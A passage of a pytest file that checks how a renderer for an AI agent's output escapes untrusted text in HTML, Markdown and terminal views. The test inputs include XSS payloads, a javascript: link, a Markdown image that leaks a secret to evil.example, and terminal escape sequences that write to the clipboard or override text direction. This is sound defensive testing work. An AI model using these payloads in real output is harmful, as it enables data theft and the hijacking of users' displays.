    feed_all(renderer, events, renderer._clock, step=0.2)  # every event shown live
    renderer.add_error(XSS)
    renderer.flush()
    for _, _, live, _ in sink.calls:  # each live output on its own
        _no_markup_from_agent(live.get("text/html", ""))
        assert "\x1b" not in live["text/plain"]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in sink.html
    result = renderer.finish([XSS], 1.0)
    bundle = result._repr_mimebundle_()
    _no_markup_from_agent(bundle["text/html"])
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in bundle["text/html"]
    assert "&quot;" in bundle["text/html"] and "&#x27;" in bundle["text/html"]
    # markdown: raw-HTML openers outside code are neutralised
    md_outside_fences = re.sub(r"(`{3,})[^\n]*\n.*?\n\1", "", bundle["text/markdown"], flags=re.S)
    md_outside_fences = re.sub(r"</?(details|summary)>", "", md_outside_fences)
    assert not re.search(r"(?<!\\)<(script|img)", md_outside_fences)


def test_agent_cannot_break_out_of_code_fences(renderer):
    nasty = "before\n```\n<script>alert(1)</script>\n````\nafter ``````"
    feed_all(renderer, tool_run("t1", "bash", {"command": "cat x"}, nasty))
    md = renderer.bundle()["text/markdown"]
    fence = re.search(r"\n(`+)text\n", md).group(1)
    assert len(fence) == 7  # longer than the longest backtick run (6) in the output
    body = md.split(f"{fence}text\n", 1)[1].split(f"\n{fence}", 1)[0]
    assert body == nasty


def test_agent_prose_is_neutralised_in_markdown(renderer):
    prose = (
        "See [click](javascript:alert(1)) and ![x](https://evil.example/?q=secret)\n"
        "<img src=x onerror=alert(1)> but `a<b` stays code and \\[ stays escaped\n"
        "```html\n<b>inside a fence</b>\n"  # the agent never closes this fence
    )
    feed_all(renderer, text_message(prose) + tool_run("t1", "bash", {"command": "ls"}, "<i>out</i>"))
    md = renderer.bundle()["text/markdown"]
    assert "\\[click\\](javascript:alert(1))" in md and "!\\[x\\]" in md
    assert "&lt;img src=x" in md and "`a<b`" in md and "\\[ stays" in md
    # the agent's open fence is closed before our tool block starts
    assert "```html\n<b>inside a fence</b>\n\n```\n\n**bash**" in md


@pytest.mark.parametrize("fake_closer", ["\t```", "    ```", "```x", "``", "~~~"])
def test_fence_tracking_matches_commonmark(renderer, fake_closer):
    # None of these lines closes the fence, so the next ``` line closes it and <script> is prose.
    prose = f"```\ncode\n{fake_closer}\n```\n<script>alert(1)</script>"
    feed_all(renderer, text_message(prose))
    md = renderer.bundle()["text/markdown"]
    assert "&lt;script>alert(1)&lt;/script>" in md and "<script" not in md


def test_terminal_control_sequences_are_stripped(renderer):
    evil = (
        "ok\x1b[2J"  # clear screen
        "\x1b]52;c;ZXZpbA==\x07"  # OSC 52: write the clipboard
        "\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\ "  # OSC 8 hyperlink
        "\u202eevil\x07\x00done\r\n50%\r100%"  # bidi override, bell, NUL, CR overwrite
    )
    feed_all(renderer, text_message(evil) + tool_run("t1", "bash", {"command": "x"}, evil))
    b = renderer.bundle()
    for doc in b.values():
        assert "\x1b" not in doc and "\x07" not in doc and "\x00" not in doc and "\u202e" not in doc
    assert "oklink \ufffdevildone" in b["text/plain"]
    # a CR overwrites only inside tool output (progress bars); in pi's text it is shown, not folded
    assert "\n    100%" in b["text/plain"] and "\n    50%" not in b["text/plain"]
    assert "50%\\r100%" in b["text/plain"]
    assert renderer.finish().text == evil  # the raw text is kept for programmatic use


# --------------------------------------------------------------------------- PiResult


def test_pi_result_repr_matches_final_bundle(renderer, sink):
    feed_all(renderer, BEGIN + text_message("All good.") + END)
    result = renderer.finish(["a.py"], 3.0)
    assert result._repr_mimebundle_() == renderer.bundle()
    assert set(result._repr_mimebundle_()) == {"text/plain", "text/markdown", "text/html"}
    assert set(result._repr_mimebundle_(include=["text/plain"])) == {"text/plain"}
    assert "text/html" not in result._repr_mimebundle_(exclude=["text/html"])


def test_pi_result_is_independent_of_the_renderer(renderer):
    feed_all(renderer, tool_run("c1", "bash", {"command": "ls"}, "a"))
    result = renderer.finish()
    renderer.feed({"type": "tool_execution_end", "toolCallId": "c1", "toolName": "bash", "result": "changed"})
    assert result.tool_calls[0].result == "a"


def test_pi_result_built_by_hand_renders():
    result = PiResult(text="hi <b>", error="boom", duration=1.0)
    b = result._repr_mimebundle_()
    assert "hi &lt;b&gt;" in b["text/html"] and "boom" in b["text/html"] and "── error ·" in b["text/plain"]
    assert str(result) == "hi <b>"
